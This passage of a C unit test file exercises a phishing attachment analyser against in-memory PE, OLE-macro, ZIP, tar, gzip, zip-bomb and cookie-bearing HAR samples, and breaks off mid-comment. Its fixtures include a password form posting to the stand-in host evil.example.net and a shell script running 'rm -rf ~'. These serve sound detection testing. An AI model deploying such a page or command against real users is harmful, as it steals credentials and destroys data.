/*
 * Unit tests of the attachment analyser (core/phish/attach): files are
 * built in memory byte by byte (a PE stub, an ELF header, a minimal OLE
 * directory with a VBA storage, ZIP archives with central directories
 * holding an executable, a vbaProject.bin, an encrypted entry or a bomb
 * ratio, a HAR with cookies) and checked for verdict and reasons, next to
 * clean files of the same kinds. Archives are also built for real (ZIP
 * stored and deflate with tests/zipmini.h, gzip, tar, tar.gz) to check
 * that entries are judged by content: a PE named .pdf, OLE VBA, OOXML
 * with vbaProject.bin, a nested zip, a HAR with a cookie, bombs, limits
 * and depth. A fake clamd (a thread on a Unix socket speaking INSTREAM)
 * checks the malware verdict and the timeout.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>
#include <zlib.h>
#include <jansson.h>

#include "core/phish/attach.h"
#include "../zipmini.h"

static void
put16(unsigned char *p, unsigned v)
{
	p[0] = (unsigned char)v;
	p[1] = (unsigned char)(v >> 8);
}

static void
put32(unsigned char *p, uint32_t v)
{
	put16(p, v & 0xffff);
	put16(p + 2, v >> 16);
}

/* A ZIP with stored entries named names[i] of the given sizes; flags
 * apply to every entry. Returns its length. */
static size_t
make_zip(unsigned char *z, const char *const *names, size_t n,
	 uint32_t csize, uint32_t usize, unsigned flags)
{
	size_t p = 0, cd, cdn = 0;
	size_t off[8];

	for (size_t i = 0; i < n; i++) {
		size_t nl = strlen(names[i]);

		off[i] = p;
		put32(z + p, 0x04034b50);
		memset(z + p + 4, 0, 26);
		put16(z + p + 6, flags);
		put32(z + p + 18, csize);
		put32(z + p + 22, usize);
		put16(z + p + 26, (unsigned)nl);
		memcpy(z + p + 30, names[i], nl);
		p += 30 + nl;
		memset(z + p, 'A', csize);
		p += csize;
	}
	cd = p;
	for (size_t i = 0; i < n; i++) {
		size_t nl = strlen(names[i]);

		put32(z + p, 0x02014b50);
		memset(z + p + 4, 0, 42);
		put16(z + p + 8, flags);
		put32(z + p + 20, csize);
		put32(z + p + 24, usize);
		put16(z + p + 28, (unsigned)nl);
		put32(z + p + 42, (uint32_t)off[i]);
		memcpy(z + p + 46, names[i], nl);
		p += 46 + nl;
		cdn++;
	}
	put32(z + p, 0x06054b50);
	memset(z + p + 4, 0, 18);
	put16(z + p + 8, (unsigned)cdn);
	put16(z + p + 10, (unsigned)cdn);
	put32(z + p + 12, (uint32_t)(p - cd));
	put32(z + p + 16, (uint32_t)cd);
	return p + 22;
}

static struct attach_result
run(const char *name, const unsigned char *d, size_t n)
{
	struct attach_result r;

	assert_int_equal(attach_analyse(name, d, n, NULL, &r), 0);
	return r;
}

static void
test_plain_files(void **state)
{
	const char *txt = "Hello, here is my order number 1234.\n";
	const char *pdf = "%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
			  "trailer\n<< /Root 1 0 R >>\n%%EOF\n";
	struct attach_result r;

	(void)state;
	r = run("note.txt", (const unsigned char *)txt, strlen(txt));
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	assert_int_equal(r.reasons, 0);
	assert_non_null(strstr(r.mime, "text/"));
	r = run("invoice.pdf", (const unsigned char *)pdf, strlen(pdf));
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	/* Text sent as a PDF: the type does not match the extension. */
	r = run("invoice.pdf", (const unsigned char *)txt, strlen(txt));
	assert_int_equal(r.verdict, ATTACH_SUSPICIOUS);
	assert_true(r.reasons & AR_TYPE_MISMATCH);
}

/* Issue 15, defect 5: a web page that can act (a password form posting to
 * another domain, a script, a meta refresh) is at least suspicious; a
 * plain page is clean. */
static void
test_active_html(void **state)
{
	static const char phish[] =
		"<!DOCTYPE html><html><head><title>Sign in</title></head>"
		"<body><FORM method=post action=\"https://evil.example.net/c\">"
		"<input type=password name=p></form><script>document.forms[0]"
		".submit()</script></body></html>\n";
	static const char *const pages[] = {
		"<html><body><script src=\"x.js\"></script></body></html>",
		"<html><head><meta http-equiv=\"Refresh\" content=\"0; "
		"url=https://evil.example.net/\"></head></html>",
		"<html><body><form><input name=q></form></body></html>",
		"<html><body><a href=\"javascript:go()\">x</a></body></html>",
	};
	static const char plain[] = "<html><body><p>Your order shipped."
				    "</p></body></html>\n";
	struct attach_result r;

	(void)state;
	r = run("invoice.html", (const unsigned char *)phish, strlen(phish));
	assert_int_not_equal(r.verdict, ATTACH_CLEAN);
	assert_true(r.reasons & AR_ACTIVE_HTML);
	assert_string_equal(attach_reason_name(AR_ACTIVE_HTML), "active_html");
	/* By its type too, under another name. */
	r = run("invoice", (const unsigned char *)phish, strlen(phish));
	assert_true(r.reasons & AR_ACTIVE_HTML);
	for (size_t i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
		r = run("page.htm", (const unsigned char *)pages[i],
			strlen(pages[i]));
		if (r.verdict == ATTACH_CLEAN || !(r.reasons & AR_ACTIVE_HTML))
			fail_msg("page %zu judged clean", i);
	}
	r = run("letter.html", (const unsigned char *)plain, strlen(plain));
	assert_int_equal(r.verdict, ATTACH_CLEAN);
}

static void
test_executables(void **state)
{
	unsigned char pe[256] = {0}, elf[64] = {0};
	const char *sh = "#!/bin/sh\nrm -rf ~\n";
	struct attach_result r;

	(void)state;
	pe[0] = 'M';
	pe[1] = 'Z';
	put32(pe + 60, 128);
	memcpy(pe + 128, "PE\0\0", 4);
	r = run("invoice.pdf.exe", pe, sizeof(pe));
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_EXECUTABLE);
	assert_true(r.reasons & AR_DOUBLE_EXTENSION);
	/* The extension lies; the bytes do not. */
	r = run("photo.jpg", pe, sizeof(pe));
	assert_true(r.reasons & AR_EXECUTABLE);
	memcpy(elf, "\x7f" "ELF\2\1\1", 7);
	r = run("update", elf, sizeof(elf));
	assert_true(r.reasons & AR_EXECUTABLE);
	r = run("fix.txt", (const unsigned char *)sh, strlen(sh));
	assert_true(r.reasons & AR_SCRIPT);
	r = run("run.ps1", (const unsigned char *)"Get-Item x\n", 11);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_SCRIPT);
}

static void
test_ole_macros(void **state)
{
	unsigned char *ole = calloc(1, 2048);
	const char *name = "_VBA_PROJECT";
	struct attach_result r;

	(void)state;
	memcpy(ole, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	put16(ole + 30, 9);
	/* Directory entry at 512 + 128: UTF-16 name, length, type stream. */
	for (size_t i = 0; name[i] != '\0'; i++)
		ole[640 + 2 * i] = (unsigned char)name[i];
	put16(ole + 640 + 64, (unsigned)(2 * strlen(name) + 2));
	ole[640 + 66] = 2;
	r = run("report.doc", ole, 2048);
	assert_true(r.reasons & AR_OLE_MACROS);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	/* The same file without that entry. */
	memset(ole + 640, 0, 128);
	r = run("report.doc", ole, 2048);
	assert_false(r.reasons & AR_OLE_MACROS);
	free(ole);
}

/* ASVS 5.2.3: archives are checked against entry-count, size and
 * compression-ratio limits before anything is unpacked. */
static void
test_zip(void **state)
{
	unsigned char *z = calloc(1, 1 << 16);
	const char *const ok[] = {"a.txt", "b/c.csv"};
	const char *const exe[] = {"readme.txt", "docs/setup.exe"};
	const char *const vba[] = {"[Content_Types].xml", "word/vbaProject.bin"};
	struct attach_result r;
	size_t n;

	(void)state;
	/* make_zip writes no CRC: unpacked, its entries do not check. */
	n = make_zip(z, ok, 2, 10, 10, 0);
	r = run("files.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_SUSPICIOUS);
	assert_int_equal(r.reasons, AR_BROKEN_ARCHIVE);
	assert_int_equal(r.entries, 2);
	n = make_zip(z, exe, 2, 10, 10, 0);
	r = run("files.zip", z, n);
	assert_true(r.reasons & AR_ARCHIVE_DANGEROUS);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	n = make_zip(z, vba, 2, 10, 10, 0);
	r = run("budget.docx", z, n);
	assert_true(r.reasons & AR_OOXML_MACROS);
	n = make_zip(z, ok, 2, 10, 10, 1);
	r = run("files.zip", z, n);
	assert_true(r.reasons & AR_ENCRYPTED_ARCHIVE);
	assert_int_equal(r.verdict, ATTACH_SUSPICIOUS);
	/* 10 bytes claiming to unpack to 4 GiB. */
	n = make_zip(z, ok, 2, 10, 0xfffffff0u, 0);
	r = run("files.zip", z, n);
	assert_true(r.reasons & AR_ZIP_BOMB);
	/* A cut archive. */
	r = run("files.zip", z, 40);
	assert_true(r.reasons & AR_BROKEN_ARCHIVE);
	free(z);
}

static void
test_har_and_limits(void **state)
{
	const char *har =
		"{\"log\":{\"entries\":[{\"request\":{\"headers\":[{\"name\":"
		"\"Cookie\",\"value\":\"sid=abcdef0123456789\"}],\"cookies\":[]},"
		"\"response\":{\"headers\":[],\"cookies\":[]}}]}}";
	const char *har_clean =
		"{\"log\":{\"entries\":[{\"request\":{\"headers\":[{\"name\":"
		"\"Accept\",\"value\":\"*/*\"}],\"cookies\":[]}}]}}";
	struct attach_options o = {0};
	struct attach_result r;

	(void)state;
	r = run("session.har", (const unsigned char *)har, strlen(har));
	assert_true(r.reasons & AR_HAR_TOKENS);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	r = run("session.har", (const unsigned char *)har_clean,
		strlen(har_clean));
	assert_false(r.reasons & AR_HAR_TOKENS);
	o.max_size = 10;
	assert_int_equal(attach_analyse("a.txt", (const unsigned char *)har,
					strlen(har), &o, &r), 0);
	assert_true(r.reasons & AR_TOO_LARGE);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	/* A clamd socket that is not there is not an error, but the file
	 * was not scanned, and the verdict says so. */
	o.max_size = 0;
	o.clamd_socket = "/nonexistent/clamd.sock";
	assert_int_equal(attach_analyse("a.txt", (const unsigned char *)"hi", 2,
					&o, &r), 0);
	assert_false(r.reasons & AR_MALWARE);
	assert_true(r.reasons & AR_AV_UNAVAILABLE);
	assert_int_equal(r.verdict, ATTACH_SUSPICIOUS);
	assert_string_equal(attach_reason_name(AR_AV_UNAVAILABLE),
			    "virus_scan_unavailable");
}

/* --- archives unpacked ------------------------------------------------ */

static const char har_cookie[] =
	"{\"log\":{\"entries\":[{\"request\":{\"headers\":[{\"name\":"
	"\"Cookie\",\"value\":\"sid=abcdef0123456789\"}],\"cookies\":[]},"
	"\"response\":{\"headers\":[],\"cookies\":[]}}]}}";
static const char pdf_text[] =
	"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
	"trailer\n<< /Root 1 0 R >>\n%%EOF\n";
static const char note_text[] = "Hello, here is my order number 1234.\n";

static void
pe_stub(unsigned char *pe)
{
	memset(pe, 0, 256);
	pe[0] = 'M';
	pe[1] = 'Z';
	put32(pe + 60, 128);
	memcpy(pe + 128, "PE\0\0", 4);
}

/* A 2 KiB OLE file with a _VBA_PROJECT stream entry. */
static void
ole_vba(unsigned char *ole)
{
	const char *name = "_VBA_PROJECT";

	memset(ole, 0, 2048);
	memcpy(ole, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
	put16(ole + 30, 9);
	for (size_t i = 0; name[i] != '\0'; i++)
		ole[640 + 2 * i] = (unsigned char)name[i];
	put16(ole + 640 + 64, (unsigned)(2 * strlen(name) + 2));
	ole[640 + 66] = 2;
}

/* A gzip file of d[0, n), with FNAME fname unless NULL. */
static unsigned char *
make_gz(const void *d, size_t n, const char *fname, size_t *len)
{
	size_t dl = 0, fl = fname != NULL ? strlen(fname) + 1 : 0;
	unsigned char *def = zipmini_deflate(d, n, &dl);
	unsigned char *g = malloc(10 + fl + dl + 8);
	uint32_t crc = (uint32_t)crc32(0L, d, (uInt)n);

	assert_non_null(g);
	memcpy(g, "\x1f\x8b\x08\0\0\0\0\0\0\3", 10);
	if (fname != NULL) {
		g[3] = 8;
		memcpy(g + 10, fname, fl);
	}
	memcpy(g + 10 + fl, def, dl);
	put32(g + 10 + fl + dl, crc);
	put32(g + 14 + fl + dl, (uint32_t)n);
	free(def);
	*len = 10 + fl + dl + 8;
	return g;
}

/* A ustar archive of the entries, ended by two zero blocks. */
static unsigned char *
make_tar(const struct zipmini_entry *e, size_t n, size_t *len)
{
	size_t cap = 1024, p = 0;
	unsigned char *t;

	for (size_t i = 0; i < n; i++)
		cap += 512 + (e[i].len + 511) / 512 * 512;
	t = calloc(1, cap);
	assert_non_null(t);
	for (size_t i = 0; i < n; i++) {
		unsigned char *h = t + p;
		unsigned sum = 0;

		memcpy(h, e[i].name, strlen(e[i].name));
		snprintf((char *)h + 100, 8, "%07o", 0644);
		snprintf((char *)h + 108, 8, "%07o", 0);
		snprintf((char *)h + 116, 8, "%07o", 0);
		snprintf((char *)h + 124, 12, "%011zo", e[i].len);
		snprintf((char *)h + 136, 12, "%011o", 0);
		memset(h + 148, ' ', 8);
		h[156] = '0';
		memcpy(h + 257, "ustar", 6);
		memcpy(h + 263, "00", 2);
		for (size_t k = 0; k < 512; k++)
			sum += h[k];
		snprintf((char *)h + 148, 8, "%06o", sum);
		h[155] = ' ';
		memcpy(h + 512, e[i].data, e[i].len);
		p += 512 + (e[i].len + 511) / 512 * 512;
	}
	*len = cap;
	return t;
}

static unsigned char *
zip1(const char *name, const void *d, size_t n, int deflated, size_t *len)
{
	const struct zipmini_entry e = {name, d, n};

	return deflated ? zipmini_build_deflated(&e, 1, len)
			: zipmini_build(&e, 1, len);
}

/* Offset of the first central directory record of z. */
static size_t
first_cd(const unsigned char *z, size_t n)
{
	const unsigned char *e = z + n - 22;

	return (size_t)e[16] | (size_t)e[17] << 8 | (size_t)e[18] << 16 |
	       (size_t)e[19] << 24;
}

/* 1 when r flagged path with all of the reason bits. */
static int
flagged(const struct attach_result *r, const char *path, unsigned bits)
{
	for (size_t i = 0; i < r->n_flagged && i < ATTACH_MAX_FLAGGED; i++)
		if (strcmp(r->flagged[i].path, path) == 0 &&
		    (r->flagged[i].reasons & bits) == bits)
			return 1;
	return 0;
}

static struct attach_result
run_o(const char *name, const unsigned char *d, size_t n,
      const struct attach_options *o)
{
	struct attach_result r;

	assert_int_equal(attach_analyse(name, d, n, o, &r), 0);
	return r;
}

/* The audit's cases: what only the content shows. */
static void
test_zip_content(void **state)
{
	unsigned char pe[256], *ole = malloc(2048), *z, *docm;
	struct attach_result r;
	json_t *j;
	char *s;
	size_t n, dn;

	(void)state;
	pe_stub(pe);
	for (int deflated = 0; deflated <= 1; deflated++) {
		z = zip1("invoice.pdf", pe, sizeof(pe), deflated, &n);
		r = run("invoice.zip", z, n);
		assert_int_equal(r.verdict, ATTACH_DANGEROUS);
		assert_true(r.reasons & AR_EXECUTABLE);
		assert_true(r.reasons & AR_ARCHIVE_DANGEROUS);
		assert_true(flagged(&r, "invoice.pdf",
				    AR_EXECUTABLE | AR_TYPE_MISMATCH));
		assert_int_equal(r.entries, 1);
		free(z);
	}
	/* The reasons name the entry, never its content. */
	j = attach_result_json(&r);
	s = json_dumps(j, JSON_COMPACT);
	assert_non_null(strstr(s, "\"entry\":\"invoice.pdf\""));
	assert_non_null(strstr(s, "\"executable\""));
	assert_null(strstr(s, "MZ"));
	free(s);
	json_decref(j);

	ole_vba(ole);
	z = zip1("report.xls", ole, 2048, 1, &n);
	r = run("report.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_OLE_MACROS);
	assert_true(flagged(&r, "report.xls", AR_OLE_MACROS));
	free(z);

	docm = zipmini_docm(&dn);
	z = zip1("letter.docx", docm, dn, 1, &n);
	r = run("letter.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_OOXML_MACROS);
	assert_true(flagged(&r, "letter.docx", AR_OOXML_MACROS));
	assert_int_equal(r.entries, 4);
	free(z);
	free(docm);
	free(ole);
}

static void
test_nested_and_tar(void **state)
{
	unsigned char pe[256], *inner, *z, *tar, *gz;
	struct attach_result r;
	size_t in, n, tn, gn;
	struct zipmini_entry te[2];

	(void)state;
	pe_stub(pe);
	inner = zip1("setup.exe", pe, sizeof(pe), 1, &in);
	z = zip1("inner.zip", inner, in, 1, &n);
	r = run("outer.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_EXECUTABLE);
	assert_true(flagged(&r, "inner.zip/setup.exe", AR_EXECUTABLE));
	assert_int_equal(r.entries, 2);
	free(z);
	free(inner);

	te[0] = (struct zipmini_entry){"docs/readme.txt", note_text,
				       sizeof(note_text) - 1};
	te[1] = (struct zipmini_entry){"bin/setup.exe", pe, sizeof(pe)};
	tar = make_tar(te, 2, &tn);
	r = run("tools.tar", tar, tn);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(flagged(&r, "bin/setup.exe", AR_EXECUTABLE));
	assert_int_equal(r.entries, 2);
	/* .tar.gz and .tgz, with and without a stored name. */
	gz = make_gz(tar, tn, NULL, &gn);
	r = run("tools.tar.gz", gz, gn);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_EXECUTABLE);
	assert_true(flagged(&r, "bin/setup.exe", AR_EXECUTABLE));
	r = run("tools.tgz", gz, gn);
	assert_true(flagged(&r, "bin/setup.exe", AR_EXECUTABLE));
	free(gz);
	gz = make_gz(tar, tn, "tools.tar", &gn);
	r = run("upload.bin", gz, gn);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(flagged(&r, "bin/setup.exe", AR_EXECUTABLE));
	free(gz);
	free(tar);
	/* One gzipped program; the member's name comes from the header. */
	gz = make_gz(pe, sizeof(pe), "setup.exe", &gn);
	r = run("update.gz", gz, gn);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(flagged(&r, "setup.exe", AR_EXECUTABLE));
	free(gz);
}

/* Okta 2023: a HAR zipped or gzipped because it is big. */
static void
test_har_archived(void **state)
{
	const char *har_clean =
		"{\"log\":{\"entries\":[{\"request\":{\"headers\":[{\"name\":"
		"\"Accept\",\"value\":\"*/*\"}],\"cookies\":[]}}]}}";
	struct attach_result r;
	unsigned char *z;
	size_t n;

	(void)state;
	z = zip1("session.har", har_cookie, sizeof(har_cookie) - 1, 1, &n);
	r = run("session.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_HAR_TOKENS);
	assert_true(flagged(&r, "session.har", AR_HAR_TOKENS));
	free(z);
	z = make_gz(har_cookie, sizeof(har_cookie) - 1, NULL, &n);
	r = run("session.har.gz", z, n);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(flagged(&r, "session.har", AR_HAR_TOKENS));
	free(z);
	z = make_gz(har_cookie, sizeof(har_cookie) - 1, "session.har", &n);
	r = run("upload.gz", z, n);
	assert_true(r.reasons & AR_HAR_TOKENS);
	free(z);
	z = zip1("session.har", har_clean, strlen(har_clean), 1, &n);
	r = run("session.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	free(z);
}

static void
test_archives_clean(void **state)
{
	static const char types[] =
		"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types xmlns="
		"\"http://schemas.openxmlformats.org/package/2006/content-types\">"
		"<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
		"</Types>";
	static const char rels[] =
		"<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns="
		"\"http://schemas.openxmlformats.org/package/2006/relationships\">"
		"<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats."
		"org/officeDocument/2006/relationships/officeDocument\" Target="
		"\"word/document.xml\"/></Relationships>";
	static const char doc[] =
		"<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document xmlns:w="
		"\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
		"<w:body><w:p><w:r><w:t>Dear team</w:t></w:r></w:p></w:body>"
		"</w:document>";
	const struct zipmini_entry files[] = {
		{"notes.txt", note_text, sizeof(note_text) - 1},
		{"scans/invoice.pdf", pdf_text, sizeof(pdf_text) - 1},
	};
	const struct zipmini_entry docx[] = {
		{"[Content_Types].xml", types, sizeof(types) - 1},
		{"_rels/.rels", rels, sizeof(rels) - 1},
		{"word/document.xml", doc, sizeof(doc) - 1},
	};
	struct attach_result r;
	unsigned char *z, *tar;
	size_t n, tn;

	(void)state;
	for (int deflated = 0; deflated <= 1; deflated++) {
		z = deflated ? zipmini_build_deflated(files, 2, &n)
			     : zipmini_build(files, 2, &n);
		r = run("papers.zip", z, n);
		assert_int_equal(r.verdict, ATTACH_CLEAN);
		assert_int_equal(r.reasons, 0);
		assert_int_equal(r.entries, 2);
		assert_int_equal(r.n_flagged, 0);
		free(z);
		z = deflated ? zipmini_build_deflated(docx, 3, &n)
			     : zipmini_build(docx, 3, &n);
		r = run("letter.docx", z, n);
		assert_int_equal(r.verdict, ATTACH_CLEAN);
		assert_int_equal(r.reasons, 0);
		assert_int_equal(r.entries, 3);
		free(z);
	}
	tar = make_tar(files, 2, &tn);
	z = make_gz(tar, tn, NULL, &n);
	r = run("papers.tar.gz", z, n);
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	assert_int_equal(r.entries, 2);
	free(z);
	free(tar);
	z = make_gz(note_text, sizeof(note_text) - 1, NULL, &n);
	r = run("notes.txt.gz", z, n);
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	free(z);
}

static void
test_bombs_and_limits(void **state)
{
	size_t big = (size_t)8 << 20, n, gn, cd;
	unsigned char *zeros = calloc(1, big), *z, *g;
	char *text = malloc(2000);
	struct attach_options o = {0};
	struct attach_result r;
	const struct zipmini_entry two[] = {{"a.txt", NULL, 2000},
					    {"b.txt", NULL, 2000}};
	struct zipmini_entry e2[2];

	(void)state;
	assert_non_null(zeros);
	assert_non_null(text);
	memset(text, 'a', 2000);
	/* 8 MiB of zeros: the declared ratio gives it away ... */
	z = zip1("zeros.txt", zeros, big, 1, &n);
	r = run("zeros.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_ZIP_BOMB);
	/* ... and so does inflating when the header lies about the size. */
	cd = first_cd(z, n);
	put32(z + cd + 24, 1000);
	r = run("zeros.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_ZIP_BOMB);
	free(z);
	g = make_gz(zeros, big, NULL, &gn);
	r = run("zeros.txt.gz", g, gn);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_ZIP_BOMB);
	free(g);

	/* The per-entry cap, declared or found while inflating. */
	o.max_entry_size = 1000;
	z = zip1("big.txt", text, 2000, 0, &n);
	r = run_o("big.zip", z, n, &o);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_ENTRY_TOO_LARGE);
	free(z);
	z = zip1("big.txt", text, 2000, 1, &n);
	put32(z + first_cd(z, n) + 24, 500);
	r = run_o("big.zip", z, n, &o);
	assert_true(r.reasons & AR_ENTRY_TOO_LARGE);
	free(z);
	g = make_gz(text, 2000, NULL, &gn);
	r = run_o("big.txt.gz", g, gn, &o);
	assert_true(r.reasons & AR_ENTRY_TOO_LARGE);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	free(g);

	/* The total unpacked size over all entries. */
	o.max_entry_size = 0;
	o.max_unpacked = 3000;
	memcpy(e2, two, sizeof(e2));
	e2[0].data = text;
	e2[1].data = text;
	z = zipmini_build(e2, 2, &n);
	r = run_o("two.zip", z, n, &o);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_ZIP_BOMB);
	free(z);

	/* The entry count covers nested archives too. */
	o.max_unpacked = 0;
	o.max_entries = 3;
	{
		size_t in;
		unsigned char *inner = zipmini_build(e2, 2, &in);
		const struct zipmini_entry outer[] = {
			{"inner.zip", inner, in}, {"c.txt", "see\n", 4},
			{"d.txt", "dee\n", 4}};

		z = zipmini_build(outer, 3, &n);
		r = run_o("outer.zip", z, n, &o);
		assert_int_equal(r.verdict, ATTACH_DANGEROUS);
		assert_true(r.reasons & AR_TOO_MANY_ENTRIES);
		/* inner.zip, its two entries, c.txt and d.txt. */
		o.max_entries = 5;
		r = run_o("outer.zip", z, n, &o);
		assert_int_equal(r.verdict, ATTACH_CLEAN);
		assert_int_equal(r.entries, 5);
		free(z);
		free(inner);
	}

	/* A cut gzip stream and a corrupt deflate entry fail closed. */
	g = make_gz(note_text, sizeof(note_text) - 1, NULL, &gn);
	r = run("notes.txt.gz", g, gn - 12);
	assert_true(r.reasons & AR_BROKEN_ARCHIVE);
	assert_int_not_equal(r.verdict, ATTACH_CLEAN);
	free(g);
	z = zip1("notes.txt", text, 2000, 1, &n);
	memset(z + 30 + strlen("notes.txt"), 0xff, 4);
	r = run("notes.zip", z, n);
	assert_true(r.reasons & AR_BROKEN_ARCHIVE);
	assert_int_not_equal(r.verdict, ATTACH_CLEAN);
	free(z);
	free(zeros);
	free(text);
}

/* Wraps the archive *z (of *n bytes, malloc'd) in a zip as name. */
static void
wrap(unsigned char **z, size_t *n, const char *name)
{
	unsigned char *w = zip1(name, *z, *n, 1, n);

	free(*z);
	*z = w;
}

static void
test_depth(void **state)
{
	struct attach_result r;
	unsigned char *z, *tar;
	size_t n, tn;
	const struct zipmini_entry hello = {"hello.txt", note_text,
					    sizeof(note_text) - 1};

	(void)state;
	/* file.zip/l1.zip/l2.zip/hello.txt: two nested archives. */
	z = zip1("hello.txt", note_text, sizeof(note_text) - 1, 1, &n);
	wrap(&z, &n, "l2.zip");
	wrap(&z, &n, "l1.zip");
	r = run("file.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	assert_int_equal(r.entries, 3);
	/* One more is too deep. */
	free(z);
	z = zip1("hello.txt", note_text, sizeof(note_text) - 1, 1, &n);
	wrap(&z, &n, "l3.zip");
	wrap(&z, &n, "l2.zip");
	wrap(&z, &n, "l1.zip");
	r = run("file.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_DANGEROUS);
	assert_true(r.reasons & AR_ARCHIVE_TOO_DEEP);
	assert_true(flagged(&r, "l1.zip/l2.zip/l3.zip", AR_ARCHIVE_TOO_DEEP));
	free(z);
	/* A .tar.gz is one archive: file.zip/a.tar.gz/b.zip/hello.txt. */
	z = zipmini_build_deflated(&hello, 1, &n);
	{
		const struct zipmini_entry b = {"b.zip", z, n};

		tar = make_tar(&b, 1, &tn);
	}
	free(z);
	z = make_gz(tar, tn, NULL, &n);
	free(tar);
	wrap(&z, &n, "a.tar.gz");
	r = run("file.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_CLEAN);
	free(z);
}

static void
test_not_inspected(void **state)
{
	static const unsigned char sz[] = "7z\xbc\xaf\x27\x1c\0\4rest";
	static const unsigned char rar[] = "Rar!\x1a\x07\1\0rest";
	static const unsigned char bz[] = "BZh91AY&SYrest";
	struct attach_result r;
	unsigned char *z;
	size_t n, cd;

	(void)state;
	r = run("files.7z", sz, sizeof(sz));
	assert_int_equal(r.verdict, ATTACH_SUSPICIOUS);
	assert_true(r.reasons & AR_ARCHIVE_NOT_INSPECTED);
	r = run("upload", bz, sizeof(bz));
	assert_true(r.reasons & AR_ARCHIVE_NOT_INSPECTED);
	r = run("notes.xz", (const unsigned char *)"x", 1);
	assert_true(r.reasons & AR_ARCHIVE_NOT_INSPECTED);
	assert_int_not_equal(r.verdict, ATTACH_CLEAN);
	z = zip1("old.rar", rar, sizeof(rar), 0, &n);
	r = run("files.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_SUSPICIOUS);
	assert_true(flagged(&r, "old.rar", AR_ARCHIVE_NOT_INSPECTED));
	free(z);
	/* A ZIP method we do not unpack (12: bzip2). */
	z = zip1("notes.txt", note_text, sizeof(note_text) - 1, 1, &n);
	cd = first_cd(z, n);
	put16(z + cd + 10, 12);
	put16(z + 8, 12);
	r = run("files.zip", z, n);
	assert_int_equal(r.verdict, ATTACH_SUSPICIOUS);
	assert_true(r.reasons & AR_ARCHIVE_NOT_INSPECTED);
	free(z);
	/* attach_reason_name knows the new reasons. */
	assert_string_equal(attach_reason_name(AR_ARCHIVE_NOT_INSPECTED),
			    "archive_not_inspected");
	assert_string_equal(attach_reason_name(AR_ARCHIVE_TOO_DEEP),
			    "archive_too_deep");
	assert_string_equal(attach_reason_name(AR_ENTRY_TOO_LARGE),
			    "entry_too_large");
}

/* --- ZIP structure (issue 9, defect 1) ------------------------------------ */

/* pre[0, pl) followed by z[0, n): a new malloc'd buffer of *len bytes. */
static unsigned char *
with_prefix(const void *pre, size_t pl, const unsigned char *z, size_t n,
	    size_t *len)
{
	unsigned char *p = malloc(pl + n + 1);

	assert_non_null(p);
	memcpy(p, pre, pl);
	memcpy(p + pl, z, n);
	*len = pl + n;
	return p;
}

/* Appends a comment of cl bytes to the archive *z (end record last, no
 * comment yet) and records its length in the end record. */
static void
add_comment(unsigned char **z, size_t *n, const char *c)
{
	size_t cl = strlen(c);
	unsigned char *w = realloc(*z, *n + cl);

	assert_non_null(w);
	put16(w + *n - 2, (unsigned)cl);
	memcpy(w + *n, c, cl);
	*z = w;
	*n += cl;
}

/* Offset of the central directory record after the one at cd. */
static size_t
next_cd(const unsigned char *z, size_t cd)
{
	return cd + 46 + (size_t)(z[cd + 28] | z[cd + 29] << 8) +
	       (size_t)(z[cd + 30] | z[cd + 31] << 8) +
	       (size_t)(z[cd + 32] | z[cd + 33] << 8);
}

/* A ZIP is found as unzip finds it: the end record searched from the end
 * (also behind a comment), offsets corrected for the bytes in front of
